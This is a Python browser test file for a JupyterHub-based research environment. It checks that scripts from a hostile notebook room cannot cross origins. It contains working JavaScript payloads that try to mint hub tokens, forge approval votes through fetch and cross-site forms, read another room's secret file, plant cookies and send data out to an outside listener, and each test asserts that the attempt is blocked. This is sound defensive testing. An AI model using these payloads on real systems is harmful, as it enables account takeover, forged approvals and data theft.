"""What a hostile script does that a room puts into the browser of the person who opened it.

Eve works in two rooms, and is an approver of other projects, signed in to the airlock in the same browser. Her room
dusk serves a notebook whose output is a script. Each attempt says what the script saw; the claim is about that, and
about the house, where nothing may have changed.
"""

import json
import sqlite3
import threading
import time
from contextlib import closing
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import NamedTuple

import pytest
from playwright.sync_api import expect
from sqlalchemy import func, select

from airlock import requests
from airlock.states import State
from airlock.tables import RequestRow, VoteRow
from policies.facts import Role
from tests.browser.chromium import PATIENCE, Window
from tests.builders import a_person, a_project, an_approval
from tests.house import an_extract
from tre.records.tables import EntryRow
from tre.rooms.room import origin

pytestmark = [pytest.mark.docker, pytest.mark.browser, pytest.mark.timeout(600)]

SECRET = "only for dawn"
TEXT = "# Plan\n\nWe compare two arms next.\n"


class Listener(NamedTuple):
    """Somebody outside who waits for what a script brings them."""

    origin: str
    heard: list[str]


class Scene(NamedTuple):
    """The window with the hostile room, and the addresses that its script knows."""

    window: Window
    house: object
    outside: Listener
    here: dict[str, str]


class House(NamedTuple):
    """What an attempt might have changed."""

    tokens: int
    votes: int
    request: tuple[str, int]
    entries: int
    dawn: tuple[str, ...]
    cookies: tuple[tuple[str, str], ...]
    heard: tuple[str, ...]


@pytest.fixture(scope="module")
def outside():
    """A server of another origin on this machine."""
    heard: list[str] = []

    class Hears(BaseHTTPRequestHandler):
        def do_GET(self):
            heard.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 -- the server looks for these names

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Hears)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield Listener(f"http://127.0.0.1:{server.server_address[1]}", heard)
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture(scope="module")
def scene(house, chromium, outside):
    settings, now = house.settings, datetime.now(UTC) - timedelta(minutes=1)
    with house.act() as session:
        a_project(session, "quiet", ("alice",), now=now)
        a_person(session, "eve", Role.ANALYST, Role.APPROVER, settings=settings, now=now)
        for project in ("dusk", "dawn"):
            a_project(session, project, ("eve",), now=now)
            an_approval(session, project, "trial", settings=settings, now=now)
            an_extract(session, settings, project, now=now)
    window = Window(chromium, house, "eve").sign_in()
    window.open("The project dawn", "dawn")
    secret = settings.person_home("dawn", "eve") / "secret.txt"
    secret.write_text(SECRET)
    secret.chmod(0o644)
    number = _asked(house)
    window.airlock(f"requests/{number}")
    expect(window.page.get_by_role("button", name="Vote")).to_be_visible(timeout=PATIENCE)
    window.open("The project dusk", "dusk")
    here = {
        "hub": settings.hub_origin,
        "airlock": f"{settings.airlock_origin}/services/airlock/",
        "request": f"{settings.airlock_origin}/services/airlock/requests/{number}",
        "dusk": f"{origin(settings, 'dusk', 'eve')}/user/eve/dusk/",
        "dawn": f"{origin(settings, 'dawn', 'eve')}/user/eve/dawn/",
        "outside": outside.origin,
        "number": str(number),
    }
    yield Scene(window, house, outside, here)
    window.home()
    for project in ("dusk", "dawn"):
        card = window.project(f"The project {project}")
        card.get_by_role("button", name="Close the room").click()
        expect(card.get_by_role("link", name="Open", exact=True)).to_be_visible(timeout=PATIENCE)
    window.close()


def _asked(house) -> int:
    """A request of alice's, out of a project without data, which eve may vote on."""
    box = house.settings.outbox("quiet", "alice")
    box.mkdir(parents=True, exist_ok=True)
    (box / "plan.md").write_text(TEXT)
    with house.act("export.submit", "alice", "project/quiet") as session:
        number = requests.submit(
            session, house.settings, project="quiet", person="alice", paths=("plan.md",), why="our plan",
            now=datetime.now(UTC),
        ).id  # fmt: skip
    until = time.monotonic() + 60
    while True:
        with house.records.read() as session:
            state = session.get(RequestRow, number).state
        if state == State.IN_REVIEW:
            return number
        assert state == State.CHECKING, state
        assert time.monotonic() < until, "the checks did not end"
        time.sleep(0.2)


def state(scene) -> House:
    """All of the house that a script might want to change."""
    house = scene.house
    with closing(sqlite3.connect(f"file:{house.settings.home / 'hub.sqlite'}?mode=ro", uri=True)) as hub:
        (tokens,) = hub.execute("SELECT count(*) FROM api_tokens").fetchone()
    with house.records.read() as session:
        request = session.get(RequestRow, int(scene.here["number"]))
        acts = EntryRow.act.startswith("export.") | EntryRow.act.startswith("person.")
        return House(
            tokens=tokens,
            votes=session.scalar(select(func.count()).select_from(VoteRow)),
            request=(request.state, request.round),
            entries=session.scalar(select(func.count()).select_from(EntryRow).where(acts)),
            dawn=tuple(sorted(path.name for path in house.settings.person_home("dawn", "eve").iterdir())),
            cookies=tuple(
                sorted(
                    (c["domain"] + c["path"], c["name"]) for c in scene.window.context.cookies(scene.here["airlock"])
                )
            ),
            heard=tuple(scene.outside.heard),
        )


def in_dusk(scene):
    """The page of the hostile room: JupyterLab itself, where its scripts run."""
    if "/dusk/lab" not in scene.window.page.url:
        scene.window.lab("dusk")
    return scene.window.page


# name -> what the script does; `here` holds addresses; it returns what it got, or throws
ATTEMPTS = {
    "read the page that mints hub tokens": """
        return (await fetch(here.hub + '/hub/token', {credentials: 'include'})).text()""",
    "mint a hub token": """
        const answer = await fetch(here.hub + '/hub/api/users/eve/tokens',
            {method: 'POST', credentials: 'include', body: '{}'});
        return answer.text()""",
    "mint a hub token without reading the answer": """
        await fetch(here.hub + '/hub/api/users/eve/tokens',
            {method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}'});
        return 'sent'""",
    "mint a hub token by the hub's pages on the room's own host": """
        const answer = await fetch('/hub/api/users/eve/tokens', {method: 'POST', credentials: 'include', body: '{}'});
        return answer.text()""",
    "mint a hub token by an old-fashioned request": """
        const ask = new XMLHttpRequest();
        ask.withCredentials = true;
        ask.open('POST', here.hub + '/hub/api/users/eve/tokens', false);
        ask.send('{}');
        return ask.responseText""",
    "read another room of the same person": """
        return (await fetch(here.dawn + 'api/contents/secret.txt')).text()""",
    "write into another room of the same person": """
        const body = JSON.stringify({type: 'file', format: 'text', content: 'x'});
        return (await fetch(here.dawn + 'api/contents/planted.txt', {method: 'PUT', body})).text()""",
    "start a kernel in another room of the same person": """
        return (await fetch(here.dawn + 'api/kernels', {method: 'POST', body: '{}'})).text()""",
    "open another room's channel": """
        return await new Promise((yes, no) => {
            const address = here.dawn.replace('http', 'ws') + 'api/events/subscribe';
            const channel = new WebSocket(address);
            channel.onopen = () => yes('open');
            channel.onerror = () => no(new Error('closed'));
        })""",
    "show another room in a frame and read it": """
        const frame = document.createElement('iframe');
        frame.src = here.dawn + 'api/contents/secret.txt';
        const loaded = new Promise(done => { frame.onload = done; });
        document.body.append(frame);
        await loaded;
        return frame.contentDocument.body.innerText""",
    "read the airlock": "return (await fetch(here.request, {credentials: 'include'})).text()",
    "vote": """
        const body = new URLSearchParams({verdict: 'approve', reason: 'x', code: '000000', seen: '0'});
        return (await fetch(here.request + '/vote', {method: 'POST', credentials: 'include', body})).text()""",
    "vote without reading the answer": """
        const body = new URLSearchParams({verdict: 'approve', reason: 'x', code: '000000', seen: '0'});
        await fetch(here.request + '/vote', {method: 'POST', mode: 'no-cors', credentials: 'include', body});
        return 'sent'""",
    "vote by a form in a frame": """
        const frame = document.createElement('iframe');
        frame.name = 'frame';
        document.body.append(frame);
        const form = Object.assign(document.createElement('form'),
            {method: 'POST', action: here.request + '/vote', target: 'frame'});
        form.innerHTML = '<input name=verdict value=approve><input name=reason value=x><input name=code value=000000>';
        document.body.append(form);
        const refused = new Promise((yes, no) => {
            document.addEventListener('securitypolicyviolation', event => no(new Error(event.violatedDirective)));
            frame.onload = () => yes('sent');
        });
        form.submit();
        return await refused""",
    "vote by a form in a new tab": """
        const form = Object.assign(document.createElement('form'),
            {method: 'POST', action: here.request + '/vote', target: '_blank'});
        form.innerHTML = '<input name=verdict value=approve><input name=reason value=x><input name=code value=000000>';
        document.body.append(form);
        const refused = new Promise((yes, no) => document.addEventListener('securitypolicyviolation',
            event => no(new Error(event.violatedDirective))));
        form.submit();
        return await refused""",
    "put a cookie where the airlock and the hub read theirs": """
        const names = ['airlock', 'jupyterhub-hub-login', '_xsrf', 'planted'];
        for (const domain of ['localhost', '.localhost', new URL(here.airlock).hostname])
            for (const name of names) document.cookie = `${name}=evil; domain=${domain}; path=/`;
        const kept = document.cookie.split('; ').filter(each => each.endsWith('=evil'));
        if (!kept.length) throw new Error('no cookie was kept');
        return kept.join()""",
    "send a beacon abroad": """
        const refused = new Promise((yes, no) => document.addEventListener('securitypolicyviolation',
            event => no(new Error(event.violatedDirective))));
        navigator.sendBeacon(here.outside + '/beacon', 'rows');
        return await refused""",
    "fetch abroad": "return 'sent ' + (await fetch(here.outside + '/fetch?rows')).status",
    "fetch abroad without reading the answer": """
        await fetch(here.outside + '/blind?rows', {mode: 'no-cors'});
        return 'sent'""",
    "load a picture from abroad": """
        return await new Promise((yes, no) => {
            const picture = new Image();
            picture.onload = () => yes('sent');
            picture.onerror = () => no(new Error('not loaded'));
            picture.src = here.outside + '/picture?rows';
        })""",
    "load a script from abroad": """
        return await new Promise((yes, no) => {
            const script = document.createElement('script');
            script.onload = () => yes('sent');
            script.onerror = () => no(new Error('not loaded'));
            script.src = here.outside + '/script?rows';
            document.head.append(script);
        })""",
    "load a style sheet from abroad": """
        return await new Promise((yes, no) => {
            const sheet = Object.assign(document.createElement('link'), {rel: 'stylesheet'});
            sheet.onload = () => yes('sent');
            sheet.onerror = () => no(new Error('not loaded'));
            sheet.href = here.outside + '/sheet?rows';
            document.head.append(sheet);
        })""",
    "open a channel abroad": """
        return await new Promise((yes, no) => {
            const channel = new WebSocket(here.outside.replace('http', 'ws') + '/channel?rows');
            channel.onopen = () => yes('open');
            channel.onerror = () => no(new Error('closed'));
        })""",
    "import a module from abroad": "return String(await import(here.outside + '/module.js?rows'))",
    "ask abroad from a worker": """
        const source = `fetch('${here.outside}/worker?rows').then(() => postMessage('sent'),
            error => postMessage('stopped'))`;
        const worker = new Worker(URL.createObjectURL(new Blob([source], {type: 'text/javascript'})));
        const said = await new Promise((yes, no) => {
            worker.onmessage = event => yes(event.data);
            worker.onerror = () => no(new Error('no worker'));
        });
        if (said === 'stopped') throw new Error(said);
        return said""",
    "ask abroad from a page of its own making": """
        const frame = document.createElement('iframe');
        const source = `<script>fetch('${here.outside}/blob?rows').then(() => parent.postMessage('sent', '*'),
            () => parent.postMessage('stopped', '*'))</script>`;
        frame.src = URL.createObjectURL(new Blob([source], {type: 'text/html'}));
        const said = await new Promise(yes => {
            window.addEventListener('message', event => yes(event.data), {once: true});
            document.body.append(frame);
        });
        if (said === 'stopped') throw new Error(said);
        return said""",
    "register a service worker of the house's own script": """
        const script = [...document.scripts].map(s => s.src).find(s => s.includes('/static/lab/'));
        return (await navigator.serviceWorker.register(script)).scope""",
    "register a service worker of its own script": """
        const source = new Blob(["onfetch = () => {}"], {type: 'text/javascript'});
        return (await navigator.serviceWorker.register(URL.createObjectURL(source))).scope""",
}


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_script_of_a_room_tries_to(scene, attempt):
    before, page = state(scene), in_dusk(scene)
    saw = page.evaluate(
        f"""async here => {{
            try {{ return 'GOT ' + await (async () => {{ {ATTEMPTS[attempt]} }})() }}
            catch (error) {{ return 'stopped: ' + error.message }}
        }}""",
        scene.here,
    )
    assert saw.startswith("stopped"), saw[:300]
    assert state(scene) == before


POPUP = """async ([address, find]) => {
    const other = window.open(address);
    if (!other) return 'stopped: no window';
    for (let i = 0; i < 100; i++) {
        await new Promise(done => setTimeout(done, 100));
        try {
            if (other.closed) return 'stopped: cut off';
            const text = other.document.body ? other.document.documentElement.innerHTML : '';
            if (text.includes(find)) return 'GOT ' + text.slice(0, 300);
        } catch (error) { return 'stopped: ' + error.name }
    }
    return 'stopped: nothing to read';
}"""


@pytest.mark.parametrize(
    ("where", "path", "find"),
    [
        ("hub", "/hub/home", "My projects"),
        ("hub", "/hub/token", "token"),
        ("hub", "/hub/user/eve/dawn/lab", "jupyter-config-data"),
        ("hub", "/hub/user/eve/dawn/api/contents/secret.txt", SECRET),
        ("dusk", "../../../hub/login", "Password"),
        ("airlock", "", "Exports"),
        ("dawn", "lab", "jupyter-config-data"),
        ("dawn", "api/contents/secret.txt", SECRET),
    ],
)
def test_script_of_a_room_opens_a_page_in_a_new_window_to_read_it(scene, where, path, find):
    before, page = state(scene), in_dusk(scene)
    saw = page.evaluate(POPUP, [scene.here[where] + path, find])
    assert saw.startswith("stopped"), saw[:300]
    _alone(scene)
    assert state(scene)._replace(tokens=0) == before._replace(tokens=0)


def test_a_notebooks_output_is_such_a_script_and_gets_no_further(scene):
    """What the other attempts do from the page itself, an output that a person ran may do as well."""
    before = state(scene)
    targets = [scene.here[name] for name in ("hub", "airlock", "dawn", "outside")]
    script = f"""
        <script>
          Promise.all({json.dumps(targets)}.map(address => fetch(address, {{credentials: "include"}})
              .then(answer => "GOT " + answer.status, () => "stopped")))
            .then(saw => {{ document.body.dataset.saw = saw.join() }});
        </script>"""
    notebook = scene.house.settings.person_home("dusk", "eve") / "hostile.ipynb"
    notebook.write_text(json.dumps(_notebook(f"from IPython.display import HTML\nHTML({script!r})")))
    notebook.chmod(0o666)
    page = scene.window.lab("dusk")
    page.locator(".jp-DirListing-item", has_text="hostile.ipynb").dblclick()
    expect(page.locator(".jp-Notebook .jp-CodeCell")).to_be_visible()
    page.get_by_role("menubar").get_by_role("menuitem", name="Run", exact=True).click()
    page.locator(".lm-Menu-itemLabel").get_by_text("Run All Cells", exact=True).click()
    expect(page.locator("body")).to_have_attribute("data-saw", ",".join(["stopped"] * len(targets)))
    assert state(scene) == before


def _notebook(source: str) -> dict:
    cell = {"cell_type": "code", "execution_count": None, "id": "a", "metadata": {}, "outputs": [], "source": source}
    kernel = {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"}
    return {"cells": [cell], "metadata": {"kernelspec": kernel}, "nbformat": 4, "nbformat_minor": 5}


def _alone(scene):
    for other in scene.window.context.pages:
        if other is not scene.window.page:
            other.close()
